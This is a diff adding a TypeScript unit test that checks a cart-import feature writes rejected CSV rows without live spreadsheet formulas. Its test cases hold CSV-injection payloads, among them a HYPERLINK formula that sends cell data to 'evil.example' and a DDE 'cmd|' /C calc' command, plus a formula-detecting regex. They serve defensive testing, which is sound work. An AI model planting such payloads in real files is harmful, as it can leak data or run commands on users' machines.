@@ -1,0 +1,85 @@
+import fc from 'fast-check'
+import Papa from 'papaparse'
+import { describe, expect, it } from 'vitest'
+import { rejectedCsv } from '../../../../src/main/cart-import/rejected-csv.ts'
+import { rowsOf } from '../../../../src/main/files/csv-columns.ts'
+import { readCartCsv } from '../../../../src/main/files/read-cart-csv.ts'
+import type { ImportRow } from '../../../../src/shared/domain/cart-import.ts'
+
+const row = (text: string, id?: number, qty?: number): ImportRow => ({
+  line: 2,
+  text,
+  id,
+  qty,
+  name: undefined,
+  mrp: undefined,
+  verdict: 'notTwoIntegers',
+  reason: '',
+  inCart: 0,
+  available: undefined,
+  applied: false,
+})
+
+/** The lines of the file that come of these rows, the headings aside. */
+const linesOf = (separator: string, ...rows: ImportRow[]): readonly string[] =>
+  rejectedCsv({ separator, rows }).split('\r\n').slice(1, -1)
+
+const cellsOf = (line: string | undefined): readonly string[] =>
+  Papa.parse<string[]>(line ?? '', { delimiter: ',' }).data[0] ?? []
+
+/** What a spreadsheet runs; a number with a sign is none. */
+const FORMULA = /^[\s\0]*(?![+-]\d+$)[=+\-@＝]/
+
+describe('a row that was left out', () => {
+  it.each([
+    ['x,=HYPERLINK("http://evil.example/?q="&A1,"open")', 'comma'],
+    ["abc,=1+cmd|' /C calc'!A0", 'comma'],
+    ['abc;@SUM(A1)', 'semicolon'],
+    ['abc\t+cmd', 'tab'],
+    ['1000, =1+1', 'comma'],
+    ['abc,"\t=1+1"', 'comma'],
+    ['"a,b","=1+1"', 'comma'],
+    ['abc,\0=1+1', 'comma'],
+    ['abc,-1+1', 'comma'],
+    ['"=never closed,1', 'comma'],
+    ['a,"\r\n=two lines"', 'comma'],
+  ])('has no formula in any cell: %j', (text, separator) => {
+    const cells = cellsOf(linesOf(separator, row(text))[0])
+    expect(cells.filter((cell) => cell.startsWith("'"))).toHaveLength(1)
+    for (const cell of cells) expect(cell).not.toMatch(FORMULA)
+  })
+
+  it('has none, whatever stands in it', () => {
+    const piece = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\0', ',', ';', '"', ' ', '1', 'x', '\n', '＝')
+    fc.assert(
+      fc.property(fc.array(piece), fc.constantFrom('comma', 'semicolon', 'tab'), (pieces, separator) => {
+        for (const cell of cellsOf(linesOf(separator, row(pieces.join('')))[0])) {
+          expect(cell).not.toMatch(FORMULA)
+        }
+      }),
+    )
+  })
+
+  it('keeps its numbers, and the cells that it had', () => {
+    expect(linesOf('comma', row('310911,-5'), row('310912,2.5'), row('5', 5, 6), row('a, b ,c'))).toEqual([
+      '310911,-5',
+      '310912,2.5',
+      '5,6',
+      'a," b ",c',
+    ])
+    expect(cellsOf(linesOf('semicolon', row('310911;2,5'))[0])).toEqual(['310911', '2,5'])
+    expect(cellsOf(linesOf('comma', row('"say ""hi""",4'))[0])).toEqual(['say "hi"', '4'])
+  })
+
+  it('can be imported again', () => {
+    const file = rejectedCsv({ separator: 'semicolon', rows: [row('310911;=1+1'), row('', 310_912, 7), row('7')] })
+    const { refusal, rows } = readCartCsv(Buffer.from(file))
+    expect(refusal).toBeUndefined()
+    expect(rowsOf(rows).map(({ line, id, qty }) => [line, id, qty])).toEqual([
+      [1, undefined, undefined],
+      [2, 310_911, undefined],
+      [3, 310_912, 7],
+      [4, undefined, undefined],
+    ])
+  })
+})
